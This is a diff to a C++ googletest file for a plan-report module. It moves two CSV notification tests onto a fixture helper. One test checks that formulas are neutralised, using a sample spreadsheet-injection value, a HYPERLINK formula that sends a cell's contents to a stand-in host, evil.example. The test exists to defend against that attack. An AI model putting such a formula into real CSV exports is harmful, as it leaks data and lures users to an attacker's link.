@@ -1,6 +1,7 @@
 #include <gtest/gtest.h>
 
 #include "report/PlanReport.h"
+#include "tests/PlanFixtures.h"
 
 namespace mm {
 namespace {
@@ -29,12 +30,7 @@ TEST(PlanReport, Json) {
 
 TEST(PlanReport, NotifyCsv) {
   MergePlan plan;
-  UserDecision a;
-  a.username = "a,b";
-  a.action = UserAction::kMap;
-  a.target = "t";
-  a.emit = false;
-  plan.add(a);
+  plan.add(test::user_decision("a,b", UserAction::kMap, "t", false));
   UserDecision quiet;
   quiet.username = "quiet";
   plan.add(quiet);
@@ -55,11 +51,7 @@ TEST(PlanReport, NotifyCsv) {
 
 TEST(PlanReport, NotifyCsvNeutralisesFormulas) {
   MergePlan plan;
-  UserDecision a;
-  a.username = "-eve";
-  a.action = UserAction::kRename;
-  a.target = "@eve";
-  plan.add(a);
+  plan.add(test::user_decision("-eve", UserAction::kRename, "@eve"));
   InstanceIndex source;
   source.users.push_back(
       IndexedUser{"-eve", "=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")", "", "", "", std::nullopt, "", 0, 0, {}, 2, ""});
